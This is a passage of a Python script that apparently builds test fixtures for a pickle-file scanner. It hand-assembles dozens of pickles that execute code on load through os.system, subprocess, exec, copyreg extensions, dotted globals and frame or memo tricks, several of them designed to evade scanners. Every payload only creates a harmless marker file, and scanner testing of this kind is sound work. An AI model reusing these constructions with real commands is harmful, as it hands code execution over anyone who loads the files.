#!/usr/bin/python3
"""Regenerate the raw-pickle fixtures of internal/formats/picklefile.

    /usr/bin/python3 internal/formats/picklefile/testdata/make_fixtures.py

Needs Debian bookworm's Python 3.11 with python3-numpy, python3-sklearn, python3-torch (1.13),
python3-dill and python3-cloudpickle.  Writes testdata/malicious/*, testdata/benign/* and
testdata/manifest.json (old fixture files are removed first), then PROVES every fixture marked
"proven": true: it is loaded with the real pickle.load (C unpickler) in a child process whose
working directory is a fresh temporary directory, and the harmless payload must have created
the file (or directory) "marker" there.  Fixtures expected to be "malformed" are loaded too (under
an address-space limit) and must raise without creating the marker.  Exit status is non-zero if
any proof fails.

Payloads are harmless: each one only creates ./marker (relative to the loader's cwd); gadgets that
need a temporary file get TMPDIR=<the temp dir>, HOME=<the temp dir>.
"""

import bz2
import collections
import datetime
import decimal
import fractions
import functools
import gzip
import io
import json
import lzma
import marshal
import os
import pickle
import shutil
import struct
import subprocess
import sys
import tempfile
import time
import types
import uuid
import warnings
import zipfile
import zlib
from pickle import (APPEND, APPENDS, BINGET, BINPUT, BUILD, DICT, DUP, EMPTY_DICT, EMPTY_LIST,
                    EMPTY_TUPLE, EXT1, EXT2, EXT4, FRAME, GET, GLOBAL, INST, LIST, LONG_BINGET,
                    LONG_BINPUT, MARK, MEMOIZE, NEWOBJ, NONE, OBJ, POP, POP_MARK, PROTO, PUT,
                    REDUCE, SETITEM, STACK_GLOBAL, STOP, TUPLE, TUPLE1, TUPLE2, TUPLE3)

warnings.simplefilter("ignore")

HERE = os.path.dirname(os.path.abspath(__file__))
MARKER = "marker"
CMD = "touch marker"                       # shell command
ARGV = ["touch", "marker"]                 # argv form
SRC = "open('marker', 'w').close()"        # Python source
TOUCH = "/usr/bin/touch"

FIXTURES = []


# --------------------------------------------------------------------------------------------
# A tiny pickle assembler.  Everything returns bytes; raw opcode snippets are wrapped in Raw so
# that argument encoders can tell "already assembled" from "a Python value to encode".
# --------------------------------------------------------------------------------------------
class Raw(bytes):
    pass


def proto(n):
    return Raw(PROTO + bytes([n]))


def glob(mod, name):                      # GLOBAL (text operands, any protocol)
    return Raw(GLOBAL + mod.encode() + b"\n" + name.encode() + b"\n")


def sglob(mod, name):                     # STACK_GLOBAL with literal operands
    return Raw(u(mod) + u(name) + STACK_GLOBAL)


def u(s):                                 # binary unicode string
    b = s.encode("utf-8")
    if len(b) < 256:
        return Raw(b"\x8c" + bytes([len(b)]) + b)          # SHORT_BINUNICODE
    return Raw(b"X" + struct.pack("<I", len(b)) + b)       # BINUNICODE


def s0(s):                                # protocol-0 STRING
    return Raw(b"S" + repr(s).encode() + b"\n")


def enc(v):
    """Encode a plain Python value with binary opcodes (protocol >= 2 style)."""
    if isinstance(v, Raw):
        return v
    if v is None:
        return Raw(NONE)
    if v is True:
        return Raw(b"\x88")
    if v is False:
        return Raw(b"\x89")
    if isinstance(v, int):
        if 0 <= v < 256:
            return Raw(b"K" + bytes([v]))
        if 0 <= v < 65536:
            return Raw(b"M" + struct.pack("<H", v))
        if -2**31 <= v < 2**31:
            return Raw(b"J" + struct.pack("<i", v))
        b = v.to_bytes((v.bit_length() + 8) // 8, "little", signed=True)
        return Raw(b"\x8a" + bytes([len(b)]) + b)        # LONG1
    if isinstance(v, str):
        return u(v)
    if isinstance(v, bytes):
        if len(v) < 256:
            return Raw(b"C" + bytes([len(v)]) + v)       # SHORT_BINBYTES
        return Raw(b"B" + struct.pack("<I", len(v)) + v)  # BINBYTES
    if isinstance(v, tuple):
        return tup(*v)
    if isinstance(v, list):
        if not v:
            return Raw(EMPTY_LIST)
        return Raw(EMPTY_LIST + MARK + b"".join(enc(x) for x in v) + APPENDS)
    if isinstance(v, dict):
        out = EMPTY_DICT
        for k, x in v.items():
            out += enc(k) + enc(x) + SETITEM
        return Raw(out)
    raise TypeError(type(v))


def tup(*items):
    body = b"".join(enc(x) for x in items)
    n = len(items)
    if n == 0:
        return Raw(EMPTY_TUPLE)
    if n <= 3:
        return Raw(body + [TUPLE1, TUPLE2, TUPLE3][n - 1])
    return Raw(MARK + body + TUPLE)


def call(fn, *args):                      # fn(*args) via REDUCE
    return Raw(enc(fn) + tup(*args) + REDUCE)


def build(*parts, p=2):
    """A whole pickle: PROTO p, the parts, STOP.  p=None omits PROTO."""
    head = b"" if p is None else proto(p)
    return head + b"".join(parts) + STOP


def framed(*parts, p=4):
    """PROTO p, then one FRAME covering the parts + STOP (as the standard pickler does)."""
    inner = b"".join(parts) + STOP
    return proto(p) + FRAME + struct.pack("<Q", len(inner)) + inner


class Reduce:
    """Object whose pickle is fn(*args): used to let the standard pickler emit a payload."""

    def __init__(self, fn, args):
        self.fn, self.args = fn, args

    def __reduce__(self):
        return (self.fn, self.args)


# --------------------------------------------------------------------------------------------
# registration
# --------------------------------------------------------------------------------------------
def mal(file, data, threat, sev, evidence, desc, proven=True, compress=None, expect="malicious",
        rlimit=False, verify=None):
    """verify: 'marker' (payload must run), 'fails' (load must raise, no marker), None (skip)."""
    if verify is None:
        verify = "marker" if proven else None
    FIXTURES.append(dict(file="malicious/" + file, data=data, expect=expect, threat=threat,
                         min_severity=sev, evidence=evidence, proven=proven, description=desc,
                         compress=compress, rlimit=rlimit, verify=verify))


def malformed(file, data, threat, desc):
    FIXTURES.append(dict(file="malicious/" + file, data=data, expect="malformed", threat=threat,
                         min_severity="", evidence="", proven=False, description=desc,
                         compress=None, rlimit=True, verify="fails"))


def ben(file, data, desc, expect="benign"):
    FIXTURES.append(dict(file="benign/" + file, data=data, expect=expect, description=desc))


OS_SYSTEM = glob("os", "system")
POSIX_SYSTEM = glob("posix", "system")


# ============================================================================================
# Threat 1: classic GLOBAL / STACK_GLOBAL + REDUCE of dangerous callables, protocols 0-5
# ============================================================================================
def threat1():
    for p in range(6):
        mal(f"01-posix-system-p{p}.pkl", pickle.dumps(Reduce(os.system, (CMD,)), protocol=p), 1,
            "critical", "posix.system(",
            f"standard pickler, protocol {p}: os.system pickles as posix.system"
            + (" (GLOBAL, no PROTO opcode)" if p < 2 else
               " (GLOBAL)" if p < 4 else " (STACK_GLOBAL inside FRAME)"))
    mal("01-os-system-p0.pkl",
        OS_SYSTEM + b"(" + s0(CMD) + b"tR.", 1, "critical", "os.system(",
        "hand-written protocol-0 text pickle: cos\\nsystem\\n(S'...'\\ntR.")
    mal("01-os-system-stackglobal-p4.pkl", framed(call(sglob("os", "system"), CMD)), 1,
        "critical", "os.system(", "STACK_GLOBAL 'os' 'system' + REDUCE, protocol 4 framed")
    mal("01-nt-system-p2.pkl", build(call(glob("nt", "system"), CMD)), 1, "critical",
        "nt.system(", "nt.system (Windows os.system); the nt module does not exist on Linux, so "
        "the load fails here with ModuleNotFoundError; on Windows it runs the command",
        proven=False, verify="fails")
    mal("01-os-popen-p2.pkl", build(call(glob("os", "popen"), CMD)), 1, "critical", "os.popen(",
        "os.popen runs a shell command")
    mal("01-os-posix-spawn-p2.pkl",
        build(call(glob("os", "posix_spawn"), TOUCH, ARGV, {})), 1, "critical", "posix_spawn(",
        "os.posix_spawn('/usr/bin/touch', ['touch','marker'], {})")
    # subprocess family, various protocols
    mal("01-subprocess-popen-p2.pkl",
        pickle.dumps(Reduce(subprocess.Popen, (ARGV,)), protocol=2), 1, "critical",
        "subprocess.Popen(", "subprocess.Popen(['touch','marker']) via standard pickler")
    mal("01-subprocess-call-p0.pkl",
        pickle.dumps(Reduce(subprocess.call, (ARGV,)), protocol=0), 1, "critical",
        "subprocess.call(", "subprocess.call, protocol 0")
    mal("01-subprocess-check-output-p1.pkl",
        pickle.dumps(Reduce(subprocess.check_output, (ARGV,)), protocol=1), 1, "critical",
        "subprocess.check_output(", "subprocess.check_output, protocol 1 (binary, no PROTO)")
    mal("01-subprocess-getoutput-p3.pkl",
        pickle.dumps(Reduce(subprocess.getoutput, (CMD,)), protocol=3), 1, "critical",
        "subprocess.getoutput(", "subprocess.getoutput (shell), protocol 3")
    mal("01-subprocess-check-call-p4.pkl",
        pickle.dumps(Reduce(subprocess.check_call, (ARGV,)), protocol=4), 1, "critical",
        "subprocess.check_call(", "subprocess.check_call, protocol 4")
    mal("01-subprocess-run-p5.pkl",
        pickle.dumps(Reduce(subprocess.run, (ARGV,)), protocol=5), 1, "critical",
        "subprocess.run(", "subprocess.run, protocol 5")
    # builtins
    mal("01-builtins-exec-p4.pkl", pickle.dumps(Reduce(exec, (SRC,)), protocol=4), 1,
        "critical", "builtins.exec(", "builtins.exec of Python source")
    mal("01-builtins-eval-p2.pkl", pickle.dumps(Reduce(eval, (SRC,)), protocol=2), 1,
        "critical", "builtins.eval(", "builtins.eval of an expression that opens a file")
    code = call(glob("builtins", "compile"), SRC, "<x>", "exec")
    mal("01-builtins-compile-exec-p3.pkl", build(call(glob("builtins", "exec"), code), p=3), 1,
        "critical", "builtins.exec(", "builtins.exec(builtins.compile(src, '<x>', 'exec'))")
    mal("01-builtins-open-p4.pkl", pickle.dumps(Reduce(open, (MARKER, "w")), protocol=4), 1,
        "critical", "io.open(", "builtins.open('marker','w') creates the file (pickled as io.open)")
    osmod = call(glob("builtins", "__import__"), "os")
    mal("01-builtins-import-getattr-p2.pkl",
        build(call(call(glob("builtins", "getattr"), osmod, "system"), CMD)), 1, "critical",
        "getattr(", "getattr(__import__('os'), 'system')('touch marker')")
    bmod = call(glob("builtins", "__import__"), "builtins")
    mal("01-builtins-getattr-chain-p2.pkl",
        build(call(call(glob("builtins", "getattr"), bmod, "exec"), SRC)), 1, "critical",
        "getattr(", "getattr(__import__('builtins'), 'exec')(src): exec never named by a GLOBAL")


# ============================================================================================
# Threat 2: Python 2 names mapped by fix_imports (protocol < 3)
# ============================================================================================
def threat2():
    mal("02-py2-builtin-eval-p2.pkl", build(call(glob("__builtin__", "eval"), SRC)), 2,
        "critical", "eval(", "__builtin__.eval -> builtins.eval through _compat_pickle "
        "IMPORT_MAPPING (protocol 2)")
    mal("02-py2-builtin-exec-p0.pkl",
        glob("__builtin__", "exec") + b"(" + s0(SRC) + b"tR.", 2, "critical", "exec(",
        "__builtin__.exec -> builtins.exec, protocol 0 text pickle")
    mal("02-py2-commands-getoutput-p2.pkl", build(call(glob("commands", "getoutput"), CMD)), 2,
        "critical", "getoutput(", "commands.getoutput -> subprocess.getoutput (IMPORT_MAPPING "
        "'commands' -> 'subprocess')")
    inner = pickle.dumps(Reduce(os.system, (CMD,)), protocol=2)
    mal("02-py2-cpickle-loads-p1.pkl", build(call(glob("cPickle", "loads"), inner), p=None), 2,
        "critical", "loads(", "cPickle.loads -> pickle.loads of an embedded pickle that calls "
        "posix.system (nested pickle), protocol-1 opcodes without PROTO")
    mal("02-py2-copy-reg-add-extension-p2.pkl",
        build(call(glob("copy_reg", "add_extension"), "posix", "system", 0xE1), POP,
              EXT1 + bytes([0xE1]), tup(CMD), REDUCE), 2, "critical", "system(",
        "copy_reg.add_extension -> copyreg.add_extension registers posix.system as code 225, "
        "then EXT1 225 + REDUCE calls it")
    mal("02-py2-builtin-reduce-exec-p2.pkl",
        build(call(glob("__builtin__", "reduce"), glob("__builtin__", "exec"), [SRC, {}])), 2,
        "critical", "exec", "__builtin__.reduce -> functools.reduce (NAME_MAPPING); "
        "reduce(exec, [src, {}]) calls exec(src, {})")
    malformed("02-py2-builtin-eval-p3-unmapped.pkl",
              build(call(glob("__builtin__", "eval"), SRC), p=3), 2,
              "__builtin__.eval at protocol 3: fix_imports applies only below protocol 3, so the "
              "loader raises ModuleNotFoundError: No module named '__builtin__' (verified)")


# ============================================================================================
# Threat 3: INST and OBJ call their class argument
# ============================================================================================
def threat3():
    mal("03-inst-os-system-p0.pkl", b"(" + s0(CMD) + INST + b"os\nsystem\n.", 3, "critical",
        "os.system(", "INST 'os system' with a MARKed argument: calls os.system like REDUCE")
    mal("03-inst-subprocess-getoutput-p0.pkl",
        b"(" + s0(CMD) + INST + b"subprocess\ngetoutput\n.", 3, "critical",
        "subprocess.getoutput(", "INST 'subprocess getoutput'")
    mal("03-obj-posix-system-p1.pkl", MARK + glob("posix", "system") + enc(CMD) + OBJ + STOP, 3,
        "critical", "posix.system(", "OBJ: MARK, class=posix.system, args; calls it "
        "(binary opcodes, no PROTO)")
    mal("03-obj-builtins-exec-p4.pkl", framed(MARK + sglob("builtins", "exec") + u(SRC) + OBJ),
        3, "critical", "builtins.exec(", "OBJ with STACK_GLOBAL builtins.exec, protocol 4")


# ============================================================================================
# Threat 4: STACK_GLOBAL operands from the memo, DUP, or computed at load time
# ============================================================================================
def threat4():
    mal("04-stackglobal-memoize-binget-p4.pkl",
        build(u("posix"), MEMOIZE, POP, u("system"), MEMOIZE, POP,
              BINGET + b"\x00", BINGET + b"\x01", STACK_GLOBAL, tup(CMD), REDUCE, p=4), 4,
        "critical", "posix.system(", "operands pushed, MEMOIZEd, POPped, then fetched with "
        "BINGET 0/1 for STACK_GLOBAL")
    mal("04-stackglobal-binput-binget-p4.pkl",
        build(u("system"), BINPUT + b"\x07", POP, u("posix"), BINPUT + b"\x03", POP,
              BINGET + b"\x03", BINGET + b"\x07", STACK_GLOBAL, tup(CMD), REDUCE, p=4), 4,
        "critical", "posix.system(", "operands stored with BINPUT 7/3 in reverse order and "
        "fetched with BINGET")
    mal("04-stackglobal-put-get-text-p4.pkl",
        build(u("posix"), PUT + b"100\n", POP, u("system"), PUT + b"200\n", POP,
              GET + b"100\n", GET + b"200\n", STACK_GLOBAL, tup(CMD), REDUCE, p=4), 4,
        "critical", "posix.system(", "text PUT/GET (protocol-0 memo opcodes) feeding STACK_GLOBAL")
    mal("04-stackglobal-long-binput-p5.pkl",
        build(u("posix"), LONG_BINPUT + struct.pack("<I", 70000), POP, u("system"),
              LONG_BINPUT + struct.pack("<I", 1), POP,
              LONG_BINGET + struct.pack("<I", 70000), LONG_BINGET + struct.pack("<I", 1),
              STACK_GLOBAL, tup(CMD), REDUCE, p=5), 4, "critical", "posix.system(",
        "LONG_BINPUT/LONG_BINGET (index 70000 and 1) feeding STACK_GLOBAL")
    mal("04-stackglobal-dup-timeit-p4.pkl",
        build(u("timeit"), DUP, STACK_GLOBAL, tup("pass", SRC), REDUCE, p=4), 4, "high",
        "timeit(", "u'timeit' DUP STACK_GLOBAL -> timeit.timeit('pass', setup=src): the setup "
        "source runs once")
    lower = sglob("builtins", "str.lower")
    mal("04-stackglobal-computed-operands-p4.pkl",
        build(call(lower, "POSIX"), call(lower, "SYSTEM"), STACK_GLOBAL, tup(CMD), REDUCE, p=4),
        4, "high", "", "STACK_GLOBAL operands are results of calls (builtins.str.lower('POSIX'), "
        "...): the callable is not knowable statically and must be flagged as a dynamic global")
    mal("04-stackglobal-nonstring-after-payload-p4.pkl",
        build(call(sglob("posix", "system"), CMD), POP, enc(1), enc(2), STACK_GLOBAL, p=4), 4,
        "critical", "posix.system(", "payload, then STACK_GLOBAL with int operands: the loader "
        "raises 'STACK_GLOBAL requires str' after the payload ran (crashes genops-based scanners)")


# ============================================================================================
# Threat 5: PUT vs MEMOIZE indices; memo value != previous opcode's argument
# ============================================================================================
def threat5():
    mal("05-memo-put-after-pop-p4.pkl",
        build(u("posix"), u("collections"), POP, BINPUT + b"\x00",     # memo[0] = 'posix'
              u("system"), u("OrderedDict"), POP, BINPUT + b"\x01",    # memo[1] = 'system'
              POP, POP, BINGET + b"\x00", BINGET + b"\x01", STACK_GLOBAL, tup(CMD), REDUCE, p=4),
        5, "critical", "posix.system(", "BINPUT after POP stores the value under the popped "
        "string ('posix'), not the previous opcode's argument ('collections'): a memo that "
        "records the preceding argument sees collections.OrderedDict (picklescan#14)")
    mal("05-memo-mixed-put-memoize-p4.pkl",
        build(u("builtins"), BINPUT + b"\x05", POP,             # memo = {5: 'builtins'}
              u("posix"), MEMOIZE, POP,                          # MEMOIZE index = len(memo) = 1
              u("system"), MEMOIZE, POP,                         # index 2
              u("decoy"), BINPUT + b"\x00", POP,                 # memo[0] = 'decoy'
              BINGET + b"\x01", BINGET + b"\x02", STACK_GLOBAL, tup(CMD), REDUCE, p=4), 5,
        "critical", "posix.system(", "MEMOIZE uses len(memo) as its index, so after BINPUT 5 "
        "the MEMOIZEs land at 1 and 2 (a counter from 0 would say 0 and 1)")
    mal("05-memo-overwrite-p4.pkl",
        build(u("collections"), BINPUT + b"\x00", POP, u("OrderedDict"), BINPUT + b"\x01", POP,
              u("posix"), BINPUT + b"\x00", POP, u("system"), BINPUT + b"\x01", POP,
              BINGET + b"\x00", BINGET + b"\x01", STACK_GLOBAL, tup(CMD), REDUCE, p=4), 5,
        "critical", "posix.system(", "memo slots 0/1 first hold collections/OrderedDict, then are "
        "overwritten with posix/system before the BINGETs")


# ============================================================================================
# Threat 6: dotted names resolved by find_class for protocol >= 4
# ============================================================================================
def threat6():
    mal("06-dotted-global-pathlib-os-system-p4.pkl",
        build(call(glob("pathlib", "os.system"), CMD), p=4), 6, "critical", "os.system(",
        "GLOBAL 'pathlib' 'os.system' after PROTO 4: find_class walks the dotted name "
        "(pathlib.os is the os module)")
    mal("06-dotted-stackglobal-tempfile-p5.pkl",
        framed(call(sglob("tempfile", "_os.system"), CMD), p=5), 6, "critical", "system(",
        "STACK_GLOBAL 'tempfile' '_os.system' (tempfile imports os as _os), protocol 5")
    mal("06-dotted-builtins-self-exec-p4.pkl",
        framed(call(sglob("builtins", "getattr.__self__.exec"), SRC)), 6, "critical", "exec(",
        "STACK_GLOBAL 'builtins' 'getattr.__self__.exec' -> builtins.exec via a bound method's "
        "__self__")
    mal("06-dotted-collections-os-p4.pkl",
        framed(call(sglob("collections", "_sys.modules.get"), "os"), BINPUT + b"\x00",
               POP, call(call(glob("builtins", "getattr"), Raw(BINGET + b"\x00"), "system"), CMD)),
        6, "critical", "", "STACK_GLOBAL 'collections' '_sys.modules.get' -> sys.modules.get('os'), "
        "then getattr(os, 'system')")
    malformed("06-dotted-global-p2-rejected.pkl",
              build(call(glob("pathlib", "os.system"), CMD), p=2), 6,
              "GLOBAL 'pathlib' 'os.system' at protocol 2: dotted names are not resolved below "
              "protocol 4, the loader raises AttributeError (verified)")


# ============================================================================================
# Threat 7: EXT1/EXT2/EXT4 via copyreg.add_extension in the same pickle / file
# ============================================================================================
def threat7():
    add = glob("copyreg", "add_extension")
    mal("07-ext1-add-extension-p2.pkl",
        build(call(add, "posix", "system", 0xF0), POP, EXT1 + b"\xf0", tup(CMD), REDUCE), 7,
        "critical", "system(", "copyreg.add_extension('posix','system',240), POP, then EXT1 240 "
        "+ REDUCE")
    mal("07-ext2-add-extension-p2.pkl",
        build(call(add, "builtins", "exec", 0x1234), POP, EXT2 + struct.pack("<H", 0x1234),
              tup(SRC), REDUCE), 7, "critical", "exec(",
        "add_extension('builtins','exec',0x1234) then EXT2 0x1234 + REDUCE")
    mal("07-ext4-add-extension-p4.pkl",
        framed(call(sglob("copyreg", "add_extension"), "subprocess", "getoutput", 0x12345678),
               POP, EXT4 + struct.pack("<I", 0x12345678), tup(CMD), REDUCE), 7, "critical",
        "getoutput(", "add_extension('subprocess','getoutput',0x12345678) then EXT4")
    first = build(call(add, "posix", "system", 0x42))
    second = build(EXT1 + b"\x42", tup(CMD), REDUCE)
    mal("07-ext1-registered-by-previous-pickle-p2.pkl", first + second, 7, "critical", "system(",
        "two pickles in one file: the first only calls copyreg.add_extension('posix','system',66) "
        "and returns None; the second is EXT1 66 + REDUCE (registry is process-global)")


# ============================================================================================
# Threat 8: results discarded with POP / POP_MARK
# ============================================================================================
def threat8():
    mal("08-pop-discarded-call-p2.pkl",
        build(call(POSIX_SYSTEM, CMD), POP, EMPTY_DICT), 8, "critical", "posix.system(",
        "posix.system(...) result thrown away with POP; the pickle returns {}")
    mal("08-pop-mark-discarded-call-p4.pkl",
        framed(MARK + call(sglob("builtins", "exec"), SRC) + enc(1) + enc(2) + POP_MARK + NONE),
        8, "critical", "builtins.exec(", "MARK, exec(src), 1, 2, POP_MARK: whole group discarded, "
        "returns None")
    mal("08-memo-only-then-pop-p2.pkl",
        build(EMPTY_LIST, call(POSIX_SYSTEM, CMD), BINPUT + b"\x09", POP, POP, NONE), 8,
        "critical", "posix.system(", "call result only stored in the memo, then POPped with the "
        "list under it; returns None")


# ============================================================================================
# Threat 9: payload first, then a broken stream
# ============================================================================================
def threat9():
    pay = call(POSIX_SYSTEM, CMD)
    mal("09-payload-then-bad-opcode-p2.pkl", proto(2) + pay + b"\xff\xfe" + STOP, 9, "critical",
        "posix.system(", "payload, then invalid opcode 0xff: load raises UnpicklingError after "
        "the payload ran")
    mal("09-payload-then-truncated-p2.pkl", proto(2) + pay + b"X\x00\x01\x00\x00abc", 9,
        "critical", "posix.system(", "payload, then a BINUNICODE whose length runs past EOF and "
        "no STOP")
    mal("09-payload-then-no-mark-p2.pkl", proto(2) + pay + POP + TUPLE + STOP, 9, "critical",
        "posix.system(", "payload, POP, then TUPLE with no MARK: 'could not find MARK'")
    mal("09-payload-then-reduce-noncallable-p2.pkl",
        proto(2) + pay + POP + enc(5) + tup(1) + REDUCE + STOP, 9, "critical", "posix.system(",
        "payload, then REDUCE on an int: TypeError after the payload ran")
    mal("09-payload-then-nul-padding-p2.pkl", proto(2) + pay + b"\x00" * 64, 9, "critical",
        "posix.system(", "payload followed by NUL bytes (0x00 is not an opcode): nullifAI-style")


# ============================================================================================
# Threat 10 / 21: several pickles in one file
# ============================================================================================
def threat10():
    benign = pickle.dumps({"weights": [1.0, 2.0], "name": "model"}, protocol=2)
    evil = pickle.dumps(Reduce(os.system, (CMD,)), protocol=2)
    mal("10-second-pickle-payload-p2.pkl", benign + evil, 10, "critical", "posix.system(",
        "two pickles: a benign dict, then posix.system in the second (pickle.load in a loop)")
    mal("10-fourth-pickle-payload-mixed.pkl",
        pickle.dumps(1, protocol=0) + pickle.dumps([1, 2], protocol=4) + pickle.dumps(
            "x", protocol=5) + pickle.dumps(Reduce(exec, (SRC,)), protocol=4), 10, "critical",
        "exec(", "four pickles of protocols 0, 4, 5, 4; payload (builtins.exec) in the last")
    magic = 0x1950a86a20f9469cfc6c
    sysinfo = {"protocol_version": 1001, "little_endian": True,
               "type_sizes": {"short": 2, "int": 4, "long": 4}}
    legacy = (pickle.dumps(magic, protocol=2) + pickle.dumps(1001, protocol=2)
              + pickle.dumps(sysinfo, protocol=2)
              + pickle.dumps(Reduce(os.system, (CMD,)), protocol=2)
              + pickle.dumps([], protocol=2))
    mal("21-legacy-torch-layout-p2.pt", legacy, 21, "critical", "posix.system(",
        "legacy (pre-1.6) torch layout: magic number, protocol 1001, sys_info, then the 'model' "
        "pickle (posix.system), then the storage-key list; only pickle.load in a loop finds it")


# ============================================================================================
# Threat 11: FRAME boundary divergence
# ============================================================================================
def threat11():
    # (a) CPython gh-154848: a BINBYTES argument straddling a 2-byte FRAME at a 4096-byte read
    # boundary.  pickletools.genops and pickle.loads(bytes) see one inert BINBYTES; the C
    # unpickler reading from a file object re-reads part of that argument as opcodes and runs it.
    pay = glob("posix", "system") + b"V" + CMD.encode() + b"\n" + TUPLE1 + REDUCE
    p = proto(5) + NONE + b"V" + b"a" * 4079 + b"\n" + POP
    p += MARK + FRAME + struct.pack("<Q", 2) + b"B" + struct.pack("<I", 0x107)
    p += b"\x00\x00" + (pay + MARK).ljust(261, NONE) + POP_MARK + STOP
    mal("11-frame-straddle-hidden-call-p5.pkl", p, 11, "critical", "posix.system(",
        "CPython gh-154848: FRAME of 2 bytes splits BINBYTES(263) at a 4096-byte boundary; "
        "pickletools and pickle.loads(bytes) see inert bytes, but pickle.load(file) with Python "
        "3.11's C unpickler executes posix.system hidden inside the argument. Scanner must flag "
        "the opcode straddling its frame")
    # (b) FRAME length ends inside an opcode: the C unpickler (3.11) reads across it.
    body = call(POSIX_SYSTEM, CMD)
    mal("11-frame-ends-mid-opcode-p4.pkl",
        proto(4) + FRAME + struct.pack("<Q", 4) + body + STOP, 11, "critical", "posix.system(",
        "FRAME declares 4 bytes, ending inside the GLOBAL module name: the pure-Python unpickler "
        "rejects it, the C unpickler in 3.11 loads it and runs posix.system")
    # (c) a FRAME opened before the previous one ends.
    inner = call(POSIX_SYSTEM, CMD) + STOP
    mal("11-frame-nested-p4.pkl",
        proto(4) + FRAME + struct.pack("<Q", 40) + NONE + POP + FRAME
        + struct.pack("<Q", len(inner)) + inner, 11, "critical", "posix.system(",
        "a second FRAME begins inside the first (40-byte) frame; C unpickler 3.11 accepts")
    malformed("11-frame-overruns-file-p4.pkl",
              proto(4) + FRAME + struct.pack("<Q", 5000) + call(POSIX_SYSTEM, CMD) + STOP, 11,
              "FRAME declares 5000 bytes but the file ends after ~40: the C unpickler refuses "
              "the frame ('pickle data was truncated') before running anything (verified)")


# ============================================================================================
# Threat 12: resource exhaustion of the scanner
# ============================================================================================
def threat12():
    big = 1 << 62
    malformed("12-binbytes8-huge-length-p4.pkl",
              proto(4) + b"\x8e" + struct.pack("<Q", big) + b"abc" + STOP, 12,
              "BINBYTES8 declaring 2**62 bytes in a tiny file: loader fails (MemoryError / "
              "truncated); a scanner must not allocate from the header")
    malformed("12-binunicode8-huge-length-p4.pkl",
              proto(4) + b"\x8d" + struct.pack("<Q", big) + b"abc" + STOP, 12,
              "BINUNICODE8 declaring 2**62 bytes")
    malformed("12-bytearray8-huge-length-p5.pkl",
              proto(5) + b"\x96" + struct.pack("<Q", big) + b"abc" + STOP, 12,
              "BYTEARRAY8 declaring 2**62 bytes")
    malformed("12-frame-huge-length-p4.pkl",
              proto(4) + FRAME + struct.pack("<Q", big) + NONE + STOP, 12,
              "FRAME declaring 2**62 bytes")
    malformed("12-binunicode-4gib-length-p2.pkl",
              proto(2) + b"X" + struct.pack("<I", 0xFFFFFFFF) + b"abc" + STOP, 12,
              "BINUNICODE declaring 4 GiB - 1 in a tiny file")
    pay = call(POSIX_SYSTEM, CMD) + POP
    mal("12-payload-then-memo-index-huge-p2.pkl",
        proto(2) + pay + NONE + LONG_BINPUT + struct.pack("<I", 0x7FFFFFF0) + STOP, 12,
        "critical", "posix.system(", "payload, then LONG_BINPUT 0x7ffffff0: the C unpickler "
        "grows its memo array to that index (tens of GB; MemoryError under the 2 GiB address "
        "limit used by the proof). Scanner must cap memo indices", rlimit=True)
    n = 20000
    flood = (NONE + MEMOIZE + POP) * n
    mal("12-memo-flood-then-payload-p4.pkl",
        build(u("posix"), BINPUT + b"\x00", POP, flood, u("system"), MEMOIZE, POP,
              BINGET + b"\x00", LONG_BINGET + struct.pack("<I", n + 1), STACK_GLOBAL, tup(CMD),
              REDUCE, p=4), 12, "critical", "posix.system(",
        f"{n} MEMOIZEd Nones between the operands; 'system' lands at memo index {n + 1}")
    depth = 20000
    deep = MARK * depth + NONE + TUPLE * depth
    mal("12-deep-nesting-in-payload-arg-p2.pkl",
        build(call(glob("builtins", "exec"), SRC, Raw(EMPTY_DICT + u("deep") + deep + SETITEM))),
        12, "critical", "exec(", f"exec(src, {{'deep': <{depth}-deep nested tuples>}}): evidence "
        "rendering / recursion must be bounded")
    dup = MARK + u("x") + DUP * 30000 + TUPLE
    mal("12-dup-bomb-in-payload-arg-p2.pkl",
        build(call(glob("builtins", "exec"), SRC, Raw(EMPTY_DICT + u("t") + dup + SETITEM))), 12,
        "critical", "exec(", "exec(src, {'t': <tuple of 30001 DUPs>})")
    laughs = EMPTY_LIST + u("lol" * 10) + APPEND + BINPUT + b"\x00" + POP
    for i in range(1, 12):
        laughs += (EMPTY_LIST + MARK + (BINGET + bytes([i - 1])) * 10 + APPENDS
                   + BINPUT + bytes([i]) + POP)
    laughs += BINGET + bytes([11])
    mal("12-billion-laughs-in-payload-arg-p2.pkl",
        build(call(glob("builtins", "exec"), SRC, Raw(EMPTY_DICT + u("l") + laughs + SETITEM))),
        12, "critical", "exec(", "exec(src, {'l': L11}) where L(i) = [L(i-1)] * 10 via memo "
        "references: 10**11 leaves if expanded; evidence must not expand shared references")


# ============================================================================================
# Threat 13: universal resolvers
# ============================================================================================
def threat13():
    getattr_ = glob("builtins", "getattr")
    mal("13-pkgutil-resolve-name-p2.pkl",
        build(call(call(glob("pkgutil", "resolve_name"), "os:system"), CMD)), 13, "critical",
        "resolve_name(", "pkgutil.resolve_name('os:system')('touch marker')")
    mal("13-pydoc-locate-p2.pkl",
        build(call(call(glob("pydoc", "locate"), "os.system"), CMD)), 13, "critical", "locate(",
        "pydoc.locate('os.system')('touch marker')")
    mod = call(glob("importlib", "import_module"), "os")
    mal("13-importlib-import-module-getattr-p2.pkl",
        build(call(call(getattr_, mod, "system"), CMD)), 13, "critical", "import_module(",
        "getattr(importlib.import_module('os'), 'system')(cmd)")
    mal("13-operator-attrgetter-p2.pkl",
        build(call(call(call(glob("operator", "attrgetter"), "system"), mod), CMD)), 13,
        "critical", "attrgetter(", "operator.attrgetter('system')(import_module('os'))(cmd)")
    mal("13-operator-methodcaller-p2.pkl",
        build(call(call(glob("operator", "methodcaller"), "system", CMD), mod)), 13, "critical",
        "methodcaller(", "operator.methodcaller('system', cmd)(import_module('os'))")
    mal("13-underscore-operator-methodcaller-p4.pkl",
        framed(call(call(sglob("_operator", "methodcaller"), "system", CMD),
                    call(sglob("builtins", "__import__"), "posix"))), 13, "critical",
        "methodcaller(", "_operator.methodcaller (C module name) applied to __import__('posix')")
    osm = call(call(glob("operator", "itemgetter"), "os"), glob("sys", "modules"))
    mal("13-operator-itemgetter-sys-modules-p2.pkl",
        build(call(call(getattr_, osm, "system"), CMD)), 13, "critical", "",
        "operator.itemgetter('os')(sys.modules) -> os module (sys.modules lookup), getattr system")
    osm2 = call(glob("operator", "getitem"), glob("sys", "modules"), "posix")
    mal("13-operator-getitem-sys-modules-p2.pkl",
        build(call(call(getattr_, osm2, "system"), CMD)), 13, "critical", "",
        "getattr(operator.getitem(sys.modules, 'posix'), 'system')(cmd)")
